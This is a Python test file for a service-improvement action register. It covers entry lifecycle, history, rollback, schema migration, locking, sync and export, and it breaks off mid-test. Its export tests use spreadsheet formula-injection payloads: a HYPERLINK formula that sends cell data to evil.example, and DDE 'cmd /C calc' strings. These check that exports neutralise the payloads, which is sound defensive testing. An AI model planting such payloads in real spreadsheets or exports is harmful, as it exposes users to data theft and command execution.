"""The CSI register: lifecycle, history, transactions, schema versions, locking, sync, export."""

from __future__ import annotations

import csv
import os
import sqlite3
import subprocess
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from postgres_server import postgres  # noqa: F401 (session fixture)

from csi_helpers import register as reg_api
from csi_helpers.errors import ParamsError, RegisterError
from csi_helpers.params import load_params
from csi_helpers.register import (
    RegisterLocked,
    export_register,
    next_cycle_end,
    open_register,
    register_url,
    sqlite_url,
    sync_actions,
)
from csi_helpers.register import schema as register_schema

RUN = "web-q2"
Q2 = {"cycle_start": date(2026, 4, 1), "cycle_end": date(2026, 6, 30)}
ACTIONS = pd.DataFrame(
    {
        "action_id": ["q2-a1", "q2-a2", "q2-a3"],
        "title": ["Stagger campaigns", "Add capacity before campaigns", "Review the anomalies"],
        "finding_id": ["target_gap:downtime", "capacity_threshold:latency", "anomaly:requests"],
        "metric": ["downtime", "latency_p95_ms", "requests"],
        "kpi": ["downtime_minutes", "latency_p95", ""],
        "expected": ["halve downtime minutes", "p95 latency under target", "alerts first"],
        "owner": ["Head of E-commerce", "", "Ops"],
        "due": ["2026-07-30"] * 3,
        "status": ["proposed"] * 3,
    }
)
CARD = pd.DataFrame(
    {
        "kpi_id": ["downtime", "latency-p95", "latency-p95-eu"],
        "kpi": ["downtime_minutes", "latency_p95", "latency_p95"],
        "target": [60.0, 300.0, 250.0],
        "actual": [566.7, 193.4, 180.0],
    }
)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return tmp_path / "registers" / "web.sqlite"


@pytest.fixture
def seeded(db: Path) -> str:
    """A register holding the three actions of run web-q2."""
    url = sqlite_url(db)
    with open_register(url, create=True, writer=RUN) as register:
        sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2)
    return url


def one_entry(url: str, **values) -> None:
    row = {"id": "x-a1", "title": "An entry"} | values
    with open_register(url, create=True) as register:
        register.add_entries([row], by="test")


# ---------------------------------------------------------------------- lifecycle and history


def test_full_lifecycle_keeps_every_change_in_the_history(seeded):
    with open_register(seeded) as register:
        for status in ("approved", "in progress", "monitoring", "closed_successful"):
            register.update("web-q2-a1", status=status, by="alice", note=f"now {status}")
        entry = register.get("web-q2-a1")
        history = register.history("web-q2-a1")
    assert entry.status == "closed_successful"
    assert entry.outcome_note == "now closed_successful"
    statuses = history[history["field"] == "status"]
    assert list(zip(statuses["old"].fillna("-"), statuses["new"], strict=True)) == [
        ("-", "proposed"),
        ("proposed", "approved"),
        ("approved", "in_progress"),
        ("in_progress", "monitoring"),
        ("monitoring", "closed_successful"),
    ]
    assert statuses["changed_by"].tolist() == [RUN, "alice", "alice", "alice", "alice"]
    assert statuses["note"].iloc[2] == "now in progress"
    assert history["changed_at"].is_monotonic_increasing


@pytest.mark.parametrize("path", [[], ["approved"], ["approved", "in_progress"]])
def test_withdrawn_from_any_open_state(seeded, path):
    with open_register(seeded) as register:
        for status in path:
            register.update("web-q2-a1", status=status, by="t")
        assert register.update("web-q2-a1", status="withdrawn", by="t").status == "withdrawn"


def test_illegal_transitions_name_the_allowed_next_states(seeded):
    with open_register(seeded) as register:
        with pytest.raises(
            RegisterError,
            match=r"entry web-q2-a1: cannot go from proposed to monitoring; "
            r"allowed next: approved, withdrawn$",
        ):
            register.update("web-q2-a1", status="monitoring", by="t")
        register.update("web-q2-a1", status="withdrawn", by="t")
        with pytest.raises(RegisterError, match="is withdrawn, a final state"):
            register.update("web-q2-a1", status="approved", by="t")
        with pytest.raises(
            RegisterError, match="unknown status 'aproved'; did you mean 'approved'"
        ):
            register.update("web-q2-a2", status="aproved", by="t")
        with pytest.raises(RegisterError, match=r"no entry 'web-q2-a9'; did you mean web-q2-a"):
            register.update("web-q2-a9", status="approved", by="t")
        assert register.get("web-q2-a2").status == "proposed"
        assert len(register.history("web-q2-a2")) == 1


def test_update_writes_one_history_row_per_changed_field_and_nothing_when_unchanged(seeded):
    with open_register(seeded) as register:
        before = register.get("web-q2-a1")
        same = register.update("web-q2-a1", owner="Head of E-commerce", status="proposed", by="t")
        assert same == before and len(register.history("web-q2-a1")) == 1
        after = register.update("web-q2-a1", owner="Ops lead", due=date(2026, 8, 15), by="bob")
        rows = register.history("web-q2-a1").iloc[1:]
    assert (after.owner, after.due) == ("Ops lead", date(2026, 8, 15))
    assert after.updated_at > before.updated_at and after.created_at == before.created_at
    assert rows[["field", "old", "new", "changed_by"]].values.tolist() == [
        ["owner", "Head of E-commerce", "Ops lead", "bob"],
        ["due", "2026-07-30", "2026-08-15", "bob"],
    ]


# ---------------------------------------------------------------------- transactions


def test_a_failure_mid_update_leaves_no_partial_write(seeded, monkeypatch):
    """The entry row is updated, then writing its history fails: both are rolled back."""

    def broken_log(self, conn, changes, **kwargs):
        raise RuntimeError("disk full while writing the history")

    with open_register(seeded) as register:
        before = register.get("web-q2-a1")
        monkeypatch.setattr(reg_api.Register, "_log", broken_log)
        with pytest.raises(RuntimeError, match="disk full"):
            register.update("web-q2-a1", status="approved", owner="Someone", by="t")
        monkeypatch.undo()
        assert register.get("web-q2-a1") == before
        assert len(register.history()) == 3


def test_a_failure_mid_insert_adds_no_entry(db):
    """The second of two new entries breaks a constraint: the first is not kept either."""
    url = sqlite_url(db)
    rows = [{"id": "a1", "title": "first"}, {"id": "a1", "title": "same id"}]
    with open_register(url, create=True) as register:
        with pytest.raises(RegisterError, match=r"the database refused: UNIQUE constraint failed"):
            register.add_entries(rows, by="t")
        assert register.entries().empty and register.history().empty


def test_a_failure_mid_sync_adds_nothing(db, monkeypatch):
    url = sqlite_url(db)
    calls = []

    def fail_on_third(self, conn, changes, **kwargs):
        calls.append(changes)
        if len(calls) == 3:
            raise RuntimeError("connection lost")
        return original(self, conn, changes, **kwargs)

    original = reg_api.Register._log
    with open_register(url, create=True, writer=RUN) as register:
        monkeypatch.setattr(reg_api.Register, "_log", fail_on_third)
        with pytest.raises(RuntimeError, match="connection lost"):
            sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2)
        monkeypatch.undo()
        assert register.entries().empty
        assert sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2).added == [
            "web-q2-a1",
            "web-q2-a2",
            "web-q2-a3",
        ]


# ---------------------------------------------------------------------- schema versions


def set_version(path: Path, version: str) -> None:
    with sqlite3.connect(path) as con:
        con.execute("update csi_meta set value = ? where key = 'schema_version'", (version,))
    con.close()


def test_a_new_register_records_its_schema_version(seeded, db):
    with sqlite3.connect(db) as con:
        rows = con.execute("select key, value from csi_meta").fetchall()
        tables = {r[0] for r in con.execute("select name from sqlite_master where type='table'")}
    con.close()
    assert rows == [("schema_version", "2")]
    assert tables == {"csi_meta", "csi_entries", "csi_history", "csi_lock"}


@pytest.mark.parametrize("create", [False, True])
def test_a_newer_register_is_refused_and_left_byte_identical(seeded, db, create):
    set_version(db, "7")
    before = db.read_bytes()
    with pytest.raises(RegisterError) as caught:
        open_register(seeded, create=create, writer="web-q3")
    assert str(caught.value) == (
        f"register {seeded} has schema version 7, newer than this workbook knows (2); "
        "it was left untouched. Upgrade csi-workbook to open it"
    )
    assert db.read_bytes() == before
    assert sorted(p.name for p in db.parent.iterdir()) == ["web.sqlite"]  # no journal left


def _v2_to_v3(connection):
    connection.execute(sa.text("ALTER TABLE csi_entries ADD COLUMN priority VARCHAR(16)"))
    connection.execute(sa.text("UPDATE csi_entries SET priority = 'normal'"))


def test_an_older_register_is_migrated_in_one_transaction(seeded, db, monkeypatch):
    monkeypatch.setattr(register_schema, "MIGRATIONS", [*register_schema.MIGRATIONS, _v2_to_v3])
    with open_register(seeded) as register:
        assert register.schema_version == 3
        assert len(register.entries()) == 3
    with sqlite3.connect(db) as con:
        assert con.execute("select value from csi_meta").fetchone() == ("3",)
        assert {r[0] for r in con.execute("select priority from csi_entries")} == {"normal"}
    con.close()


def test_a_version_1_register_gets_the_promised_change_column_empty(tmp_path):
    """A register made before version 2 (no expected_change) opens migrated: its entries
    keep every value and have no promised change."""
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as con:
        con.executescript(
            "create table csi_meta (key varchar(64) primary key, value varchar(200) not null);"
            "insert into csi_meta values ('schema_version', '1');"
        )
    con.close()
    engine = sa.create_engine(sqlite_url(path))
    metadata = sa.MetaData()
    _meta, entries, history, lock = register_schema._tables_v1(metadata)
    with engine.begin() as conn:
        for table in (entries, history, lock):
            table.create(conn)
        conn.execute(sa.insert(entries).values(
            id="q2-a1", title="Stagger campaigns", status="proposed", base_value=566.7,
            created_at=pd.Timestamp("2026-07-01").to_pydatetime(),
            updated_at=pd.Timestamp("2026-07-01").to_pydatetime(),
        ))  # fmt: skip
    engine.dispose()
    with open_register(sqlite_url(path)) as register:
        assert register.schema_version == 2
        entry = register.get("q2-a1")
    assert entry.base_value == 566.7 and entry.expected_change is None


def test_a_failing_migration_leaves_the_register_as_it_was(seeded, db, monkeypatch):
    def broken(connection):
        _v2_to_v3(connection)  # DDL and data change made, then the step fails
        raise sa.exc.OperationalError("ALTER", {}, Exception("no space left on device"))

    before = db.read_bytes()
    monkeypatch.setattr(register_schema, "MIGRATIONS", [*register_schema.MIGRATIONS, broken])
    with pytest.raises(RegisterError, match="the database refused: no space left on device"):
        open_register(seeded)
    assert db.read_bytes() == before
    monkeypatch.undo()
    with open_register(seeded) as register:
        assert register.schema_version == 2
        assert "priority" not in register.entries().columns


def test_a_register_from_nothing_is_migrated_from_version_zero(tmp_path):
    url = sqlite_url(tmp_path / "deep" / "folder" / "new.sqlite")
    with pytest.raises(RegisterError, match=r"no register at .*new.sqlite: step 7 of `csi run`"):
        open_register(url)
    assert not (tmp_path / "deep").exists()
    with open_register(url, create=True) as register:
        assert register.schema_version == 2 and register.entries().empty


def test_damaged_or_foreign_databases_are_named(db, seeded):
    set_version(db, "one")
    with pytest.raises(RegisterError, match="schema_version is 'one', not a whole number"):
        open_register(seeded)
    other = db.parent / "other.sqlite"
    with sqlite3.connect(other) as con:
        con.execute("create table csi_entries (id text)")
    con.close()
    with pytest.raises(RegisterError, match=r"has the table\(s\) csi_entries but no csi_meta"):
        open_register(sqlite_url(other))
    empty = db.parent / "empty.sqlite"
    sqlite3.connect(empty).close()
    with pytest.raises(RegisterError, match="holds no register tables"):
        open_register(sqlite_url(empty))


# ---------------------------------------------------------------------- locking


def test_a_second_writer_is_refused_while_a_run_holds_the_lock(seeded, db):
    with open_register(seeded, writer="web-q3") as holder:
        before = db.read_bytes()
        with pytest.raises(RegisterLocked) as caught:
            open_register(seeded, writer="web-q3-rerun")
        message = str(caught.value)
        assert message.startswith(f"register {seeded} is locked by run web-q3 since 20")
        assert f"process {os.getpid()})" in message and "stale" not in message
        assert message.endswith(
            "nothing was changed. Wait for that run to finish or, if it died, run "
            "`csi register unlock`"
        )
        with open_register(seeded) as reader:  # reading is allowed, writing is not
            assert len(reader.entries()) == 3
            assert reader.lock().owner == "web-q3"
            with pytest.raises(RegisterLocked, match="locked by run web-q3"):
                reader.update("web-q2-a1", status="approved", by="t")
        with pytest.raises(RegisterLocked):  # the same run id started twice
            open_register(seeded, writer="web-q3")
        assert db.read_bytes() == before
        holder.update("web-q2-a1", status="approved", by="web-q3")  # the holder writes
    with open_register(seeded) as register:  # released on close
        assert register.lock() is None
        register.update("web-q2-a1", status="in_progress", by="t")


def test_the_lock_is_released_when_the_run_fails(seeded):
    with pytest.raises(ValueError), open_register(seeded, writer="web-q3"):
        raise ValueError("step 7 failed")
    with open_register(seeded, writer="web-q4") as register:
        assert register.lock().owner == "web-q4"


def test_unlock_removes_a_dead_runs_lock_and_the_old_holder_cannot_write_on(seeded):
    holder = open_register(seeded, writer="web-q3")
    with open_register(seeded) as admin:
        removed = admin.unlock()
        assert removed.owner == "web-q3" and admin.lock() is None
        assert admin.unlock() is None
    with pytest.raises(RegisterError, match="the lock of run web-q3 was removed"):
        holder.update("web-q2-a1", status="approved", by="web-q3")
    holder.close()
    with open_register(seeded) as register:
        assert register.get("web-q2-a1").status == "proposed"


def test_a_lock_left_by_a_dead_process_is_called_stale(seeded, db):
    """A run that died holding the lock: its process id (on this host) no longer exists."""
    dead = subprocess.Popen(["true"])
    dead.wait(timeout=10)
    holder = open_register(seeded, writer="web-q3")
    with sqlite3.connect(db) as con:
        con.execute("update csi_lock set pid = ?", (dead.pid,))
    con.close()
    holder._lock_token = None  # the run is gone: nobody releases its lock
    holder.close()
    with pytest.raises(RegisterLocked) as caught:
        open_register(seeded, writer="web-q4")
    assert f"process {dead.pid}); that process is no longer running, so the lock is stale" in str(
        caught.value
    )


def hold_the_lock(url: str, ready, release) -> None:
    """In another process: take the lock, say so, hold it until told (30 s at most)."""
    with open_register(url, writer="web-q3"):
        ready.set()
        release.wait(timeout=30)


def test_a_writer_in_another_process_is_refused(seeded, db):
    """A real second process (forked: no second start-up) holds the lock while this one writes."""
    import multiprocessing

    fork = multiprocessing.get_context("fork")
    ready, release = fork.Event(), fork.Event()
    other = fork.Process(target=hold_the_lock, args=(seeded, ready, release))
    other.start()
    try:
        assert ready.wait(timeout=30)
        before = db.read_bytes()
        locked = rf"locked by run web-q3 .*process {other.pid}\)"
        with pytest.raises(RegisterLocked, match=locked), open_register(seeded) as register:
            register.update("web-q2-a1", status="approved", by="t")
        assert db.read_bytes() == before
    finally:
        release.set()
        other.join(timeout=30)
    assert other.exitcode == 0
    with open_register(seeded) as register:  # released by the other process
        assert register.lock() is None


def test_a_busy_database_is_waited_for_then_named(seeded, db):
    """Another connection in the middle of a write transaction: the busy timeout bounds the wait."""
    blocker = sqlite3.connect(db, isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")
    try:
        busy = "stayed busy past the timeout"
        with pytest.raises(RegisterError, match=busy), open_register(seeded, timeout_s=0.2) as r:
            r.update("web-q2-a1", status="approved", by="t")
    finally:
        blocker.rollback()
        blocker.close()


# ---------------------------------------------------------------------- sync


def test_sync_sets_kpi_base_target_review_and_baseline(seeded):
    with open_register(seeded) as register:
        entries = register.entries().set_index("id")
    first = entries.loc["web-q2-a1"]
    assert (first.title, first.kpi_id, first.kpi, first.base_value, first.target_value) == (
        "Stagger campaigns",
        "downtime",
        "downtime_minutes",
        566.7,
        60.0,
    )
    assert (first.review_date, first.baseline_run_id, first.created_run_id) == (
        date(2026, 9, 30),
        RUN,
        RUN,
    )
    assert (first.status, first.due, first.finding_id, first.action_id) == (
        "proposed",
        date(2026, 7, 30),
        "target_gap:downtime",
        "q2-a1",
    )
    # by library KPI: the first scorecard row measuring latency_p95; an empty owner is NULL
    second = entries.loc["web-q2-a2"]
    assert (second.kpi_id, second.base_value) == ("latency-p95", 193.4)
    assert pd.isna(second.owner)
    # no KPI: nothing to verify against, so no review date
    third = entries.loc["web-q2-a3"]
    assert third[["kpi_id", "base_value", "review_date", "baseline_run_id"]].isna().all()


def test_sync_is_idempotent_and_never_overwrites_what_people_changed(seeded):
    with open_register(seeded, writer=RUN) as register:
        register.update("web-q2-a1", status="approved", owner="Ops lead", by="alice")
        register.update("web-q2-a2", status="withdrawn", by="alice")
        before = register.entries()
        history = register.history()
        result = sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD * 1, **Q2)
        assert result.added == [] and result.present == ["web-q2-a1", "web-q2-a2", "web-q2-a3"]
        assert str(result) == "0 added; 3 already in the register from this run"
        pd.testing.assert_frame_equal(register.entries(), before)
        pd.testing.assert_frame_equal(register.history(), history)


def test_a_later_run_adds_new_actions_and_leaves_open_ones_to_their_entry(seeded):
    later = pd.concat(
        [ACTIONS, ACTIONS.iloc[[0]].assign(title="Plan capacity", action_id="q3-a4")],
        ignore_index=True,
    )
    with open_register(seeded, writer="web-q3") as register:
        register.update("web-q2-a2", status="withdrawn", by="t")  # closed: may be proposed anew
        result = sync_actions(
            register,
            later,
            run_id="web-q3",
            scorecard=CARD.assign(actual=[283.4, 191.6, 170.0]),
            cycle_start=date(2026, 7, 1),
            cycle_end=date(2026, 9, 30),
        )
        entries = register.entries().set_index("id")
    assert result.added == ["web-q3-a1", "web-q3-a2"]
    assert result.open_elsewhere == {
        "Stagger campaigns": "web-q2-a1",
        "Review the anomalies": "web-q2-a3",
    }
    assert entries.loc["web-q3-a1", "title"] == "Add capacity before campaigns"
    assert entries.loc["web-q3-a1", "base_value"] == 191.6
    assert entries.loc["web-q3-a1", "review_date"] == date(2026, 12, 31)
    assert entries.loc["web-q2-a1", "base_value"] == 566.7  # untouched


def test_sync_names_missing_columns(seeded):
    with open_register(seeded, writer="web-q3") as register:
        with pytest.raises(RegisterError, match="the action list has no title column"):
            sync_actions(register, ACTIONS.drop(columns="title"), run_id="x", scorecard=CARD, **Q2)
        with pytest.raises(RegisterError, match="the scorecard has no actual column"):
            sync_actions(register, ACTIONS, run_id="x", scorecard=CARD.drop(columns="actual"), **Q2)
        assert len(register.entries()) == 3


@pytest.mark.parametrize(
    ("start", "end", "expected"),
    [
        (date(2026, 4, 1), date(2026, 6, 30), date(2026, 9, 30)),  # a quarter
        (date(2026, 10, 1), date(2026, 12, 31), date(2027, 3, 31)),  # across the year
        (date(2026, 1, 1), date(2026, 1, 31), date(2026, 2, 28)),  # a month
        (date(2026, 1, 1), date(2026, 12, 31), date(2027, 12, 31)),  # a year
        (date(2026, 1, 5), date(2026, 1, 18), date(2026, 2, 1)),  # two weeks: by days
    ],
)
def test_review_date_is_the_end_of_the_next_cycle(start, end, expected):
    assert next_cycle_end(start, end) == expected


# ---------------------------------------------------------------------- review without baseline


def test_an_entry_due_for_review_without_a_baseline_is_named_and_nothing_changes(db):
    url = sqlite_url(db)
    one_entry(url, review_date=date(2026, 9, 30), kpi_id="downtime")  # e.g. from an older tool
    before = db.read_bytes()
    with open_register(url) as register:
        assert register.due_for_review(date(2026, 9, 29)).empty  # not due yet: no complaint
        with pytest.raises(RegisterError) as caught:
            register.due_for_review(date(2026, 10, 1))
    assert str(caught.value) == (
        f"register {url}: 1 entry is due for review on 2026-10-01 but has no baseline to compare "
        "against:\n"
        "  - x-a1 (An entry): review date 2026-09-30, base value (none), baseline run (none)\n"
        "Give each a baseline with `csi register update ID --base VALUE --baseline-run RUN`, "
        "or withdraw it (`--status withdrawn`); the register was not changed"
    )
    assert db.read_bytes() == before


def test_entries_due_for_review_come_with_their_baseline(seeded):
    with open_register(seeded) as register:
        register.update("web-q2-a2", status="withdrawn", by="t")
        due = register.due_for_review(date(2026, 10, 1))
    assert due["id"].tolist() == ["web-q2-a1"]
    assert due[["base_value", "baseline_run_id"]].values.tolist() == [[566.7, RUN]]


def test_a_review_date_needs_a_baseline_when_set_by_hand(seeded, db):
    before = db.read_bytes()
    with open_register(seeded) as register:
        with pytest.raises(RegisterError, match="entry web-q2-a3: a review date needs a baseline"):
            register.update("web-q2-a3", review_date=date(2026, 12, 31), by="t")
        assert db.read_bytes() == before
        entry = register.update(
            "web-q2-a3",
            review_date=date(2026, 12, 31),
            base_value=1250.0,
            baseline_run_id=RUN,
            by="t",
        )
    assert entry.has_baseline and entry.review_date == date(2026, 12, 31)


# ---------------------------------------------------------------------- export

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "expected": "+1+cmd",
    "metric": "-2+3",
    "finding_id": "\tleading tab",
    "kpi": "\rcarriage return",
    "outcome_note": "plain text",
}


def test_csv_export_neutralises_formula_cells(db, tmp_path):
    url = sqlite_url(db)
    one_entry(url, base_value=-5.5, **EVIL)
    with open_register(url) as register:
        path = export_register(register, tmp_path / "out" / "register.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        (row,) = list(csv.DictReader(f))
    for key, value in EVIL.items():
        assert row[key] == (value if key == "outcome_note" else "'" + value)
    assert row["base_value"] == "-5.5"  # a number, not text: left as it is
    assert path.read_text(encoding="utf-8-sig").startswith('"id","title",')


def test_xlsx_export_neutralises_formula_cells(db, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    url = sqlite_url(db)
    one_entry(url, base_value=-5.5, due=date(2026, 7, 30), **EVIL)
    with open_register(url) as register:
        register.update("x-a1", owner="=1+1", note="=cmd|' /C calc'!A0", by="=evil()")
        path = export_register(register, tmp_path / "register.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["register", "history"]
    sheet = book["register"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["title"].value == "'" + EVIL["title"] and cells["title"].data_type == "s"
    assert cells["owner"].value == "'=1+1"
    assert cells["metric"].value == "'-2+3"
    assert cells["base_value"].value == -5.5 and cells["base_value"].data_type == "n"
    assert cells["due"].is_date
    formulas = [
        c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    history = book["history"]
    assert {c.value for c in history["G"]} >= {"'=evil()"}  # the changed_by column


def test_export_format_must_be_csv_or_xlsx(seeded, tmp_path):
    with (
        open_register(seeded) as register,
        pytest.raises(
            RegisterError,
            match=r"register.ods: cannot export the register as 'ods'; choose one of csv, xlsx",
        ),
    ):
        export_register(register, tmp_path / "register.ods")


# ---------------------------------------------------------------------- params and URLs


def test_params_register_defaults_to_a_sqlite_file_beside_the_params_folder(tmp_path):
    folder = tmp_path / "project" / "params"
    folder.mkdir(parents=True)
    base = "service: {id: web, name: Web}\ncycle: {id: q1, start: 2026-01-01, end: 2026-03-31}\n"
    (folder / "a.yaml").write_text(base)
    params = load_params(folder / "a.yaml")
    assert params.register_settings.directory == tmp_path / "project" / "registers"
    assert register_url(params) == f"sqlite:///{tmp_path}/project/registers/web.sqlite"
    (folder / "b.yaml").write_text(base + "register: {directory: /srv/csi}\n")
    assert register_url(load_params(folder / "b.yaml")) == "sqlite:////srv/csi/web.sqlite"
    (folder / "c.yaml").write_text(
        base + "register:\n  url: postgresql+psycopg://csi:${PW}@db/csi\n"
    )
    assert register_url(load_params(folder / "c.yaml")) == "postgresql+psycopg://csi:${PW}@db/csi"
    (folder / "d.yaml").write_text(base + "register:\n  urll: sqlite:///x\n")
    with pytest.raises(
        ParamsError, match=r"register.urll \(line 4\): unknown key; did you mean 'url'"
    ):
        load_params(folder / "d.yaml")


def test_url_variables_are_expanded_at_connect_time_and_never_shown(db, monkeypatch):
    monkeypatch.setenv("CSI_TEST_REGISTER_DIR", str(db.parent))
    with open_register("sqlite:///${CSI_TEST_REGISTER_DIR}/web.sqlite", create=True) as register:
        assert register.url == "sqlite:///${CSI_TEST_REGISTER_DIR}/web.sqlite"
    assert db.exists()
    monkeypatch.delenv("CSI_TEST_REGISTER_DIR")
    with pytest.raises(
        RegisterError, match="environment variable CSI_TEST_REGISTER_DIR is not set"
    ):
        open_register("sqlite:///${CSI_TEST_REGISTER_DIR}/web.sqlite")
    with pytest.raises(RegisterError, match="is not a SQLAlchemy URL"):
        open_register("registers/web.sqlite")
    monkeypatch.setenv("CSI_TEST_PW", "pw-never-shown-42")
    with pytest.raises(RegisterError) as caught:
        open_register("oracle+nosuchdriver://u:${CSI_TEST_PW}@h/db")
    assert "pw-never-shown-42" not in str(caught.value)
    assert str(caught.value).startswith(
        "register oracle+nosuchdriver://u:***@h/db: no database driver"
    )


# ---------------------------------------------------------------------- concurrency


def race_for_the_lock(url: str, writers: int) -> list[str]:
    """``writers`` threads try to take the lock at once and hold it until all have tried."""
    import threading

    start = threading.Barrier(writers)
    tried = threading.Barrier(writers)
    outcomes: list[str] = []

    def attempt(i: int) -> None:
        start.wait(timeout=30)
        try:
            register = open_register(url, writer=f"run-{i}", timeout_s=20)
        except RegisterLocked:
            outcomes.append("refused")
            tried.wait(timeout=30)
            return
        outcomes.append("won")
        tried.wait(timeout=30)
        register.close()

    threads = [threading.Thread(target=attempt, args=(i,)) for i in range(writers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    return outcomes


def test_writers_racing_for_the_lock_get_it_one_at_a_time(seeded):
    outcomes = race_for_the_lock(seeded, 6)
    assert sorted(outcomes) == ["refused"] * 5 + ["won"]


def test_a_duckdb_register_works_too(tmp_path):
    pytest.importorskip("duckdb_engine")
    url = f"duckdb:///{tmp_path}/register.duckdb"
    with open_register(url, create=True, writer=RUN) as register:
        sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2)
        register.update("web-q2-a1", status="approved", by="alice")
        with pytest.raises(RegisterError, match="cannot go from approved to monitoring"):
            register.update("web-q2-a1", status="monitoring", by="alice")
        assert register.history("web-q2-a1")["new"].tolist() == ["proposed", "approved"]
    with open_register(url) as register:
        assert register.schema_version == 2 and register.lock() is None
        assert len(register.due_for_review(date(2026, 10, 1))) == 2


# ---------------------------------------------------------------------- PostgreSQL


@pytest.fixture
def pg_url(postgres, monkeypatch, request):  # noqa: F811
    """A fresh database on the test server; the password comes from ${CSI_TEST_PG_PW}."""
    monkeypatch.setenv("CSI_TEST_PG_PW", postgres.password)
    name = postgres.create_database(
        "reg_" + request.node.name.lower()[-40:].replace("[", "_").strip("]")
    )
    return postgres.url("${CSI_TEST_PG_PW}", database=name)


def pg_rows(url: str) -> dict[str, list[tuple]]:
    """Every row of every register table (to show a database untouched)."""
    engine = sa.create_engine(os.path.expandvars(url))
    try:
        with engine.connect() as conn:
            return {
                t: sorted(map(tuple, conn.execute(sa.text(f"select * from {t}")).all()), key=repr)
                for t in register_schema.TABLE_NAMES
            }
    finally:
        engine.dispose()


@pytest.mark.slow
def test_postgresql_register_lifecycle_lock_and_export(pg_url, postgres, tmp_path):  # noqa: F811
    openpyxl = pytest.importorskip("openpyxl")
    with open_register(pg_url, create=True, writer=RUN) as register:
        assert register.url == pg_url.replace("${CSI_TEST_PG_PW}", "***")
        assert postgres.password not in register.url
        result = sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2)
        assert result.added == ["web-q2-a1", "web-q2-a2", "web-q2-a3"]
        before = pg_rows(pg_url)
        with pytest.raises(RegisterLocked, match=f"locked by run {RUN} since"):
            open_register(pg_url, writer="web-q3")
        with open_register(pg_url) as reader, pytest.raises(RegisterLocked):
            reader.update("web-q2-a1", status="approved", by="t")
        assert pg_rows(pg_url) == before
        assert sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2).added == []
    with open_register(pg_url) as register:
        for status in ("approved", "in_progress", "monitoring", "closed_unsuccessful"):
            register.update("web-q2-a1", status=status, by="alice")
        with pytest.raises(RegisterError, match="is closed_unsuccessful, a final state"):
            register.update("web-q2-a1", status="withdrawn", by="alice")
        entry = register.get("web-q2-a1")
        assert (entry.status, entry.base_value, entry.review_date) == (
            "closed_unsuccessful",
            566.7,
            date(2026, 9, 30),
        )
        assert len(register.history("web-q2-a1")) == 5
        one = {"id": "evil-a1", "title": "=1+1", "owner": "@x"}
        register.add_entries([one], by="t")
        path = export_register(register, tmp_path / "pg.xlsx")
    sheet = openpyxl.load_workbook(path)["register"]
    assert [c.value for c in sheet["B"]][-1] == "'=1+1"


@pytest.mark.slow
def test_postgresql_failures_roll_back_whole(pg_url, monkeypatch):
    with open_register(pg_url, create=True, writer=RUN) as register:
        sync_actions(register, ACTIONS, run_id=RUN, scorecard=CARD, **Q2)
    before = pg_rows(pg_url)

    def broken_log(self, conn, changes, **kwargs):
        raise RuntimeError("connection lost")

    with open_register(pg_url) as register:
        with monkeypatch.context() as patch:
            patch.setattr(reg_api.Register, "_log", broken_log)
            with pytest.raises(RuntimeError):
                register.update("web-q2-a1", status="approved", by="t")
        with pytest.raises(RegisterError, match="the database refused: duplicate key"):
            register.add_entries(
                [{"id": "n1", "title": "a"}, {"id": "web-q2-a1", "title": "b"}], by="t"
            )
    assert pg_rows(pg_url) == before

    def broken(connection):
        _v2_to_v3(connection)
        raise RuntimeError("migration failed half way")

    monkeypatch.setattr(register_schema, "MIGRATIONS", [*register_schema.MIGRATIONS, broken])
    with pytest.raises(RuntimeError, match="half way"):
        open_register(pg_url)
    assert pg_rows(pg_url) == before  # DDL rolled back too: no priority column
    monkeypatch.setattr(register_schema, "MIGRATIONS", [*register_schema.MIGRATIONS[:2], _v2_to_v3])
    with open_register(pg_url) as register:
        assert register.schema_version == 3 and len(register.entries()) == 3


@pytest.mark.slow
def test_postgresql_newer_register_is_refused_untouched(pg_url):
    with open_register(pg_url, create=True) as register:
        register.add_entries([{"id": "a1", "title": "t"}], by="t")
    engine = sa.create_engine(os.path.expandvars(pg_url))
    with engine.begin() as conn:
        conn.execute(sa.text("update csi_meta set value = '5'"))
    engine.dispose()
    before = pg_rows(pg_url)
    with pytest.raises(RegisterError, match="has schema version 5, newer than this workbook knows"):
        open_register(pg_url, create=True, writer="web-q3")
    assert pg_rows(pg_url) == before


@pytest.mark.slow
def test_postgresql_writers_race_and_bad_password(pg_url, postgres, monkeypatch):  # noqa: F811
    with open_register(pg_url, create=True):
        pass
    assert sorted(race_for_the_lock(pg_url, 6)) == ["refused"] * 5 + ["won"]
    monkeypatch.setenv("CSI_TEST_PG_PW", "wrong-pw-never-shown")
    with pytest.raises(RegisterError) as caught:
        open_register(pg_url)
    message = str(caught.value)
    assert "wrong-pw-never-shown" not in message and postgres.password not in message
    assert message.startswith(f"register postgresql+psycopg://csi:***@127.0.0.1:{postgres.port}/")
    assert "password authentication failed" in message


# ---------------------------------------------------------------------- re-runs and trial runs


def test_a_rerun_updates_its_own_proposed_entries_and_adds_no_duplicate(seeded):
    """Re-running web-q2 with a corrected scorecard: the two entries with a KPI get the
    new baseline, each change in the history; an entry someone approved meanwhile is
    left as it was; no entry is added."""
    with open_register(seeded) as register:
        register.update(f"{RUN}-a2", status="approved", by="ops lead")
    card = CARD.assign(actual=[500.0, 180.0, 180.0])
    with open_register(seeded, writer=RUN) as register:
        result = sync_actions(register, ACTIONS, run_id=RUN, scorecard=card, **Q2)
        entries = register.entries().set_index("id")
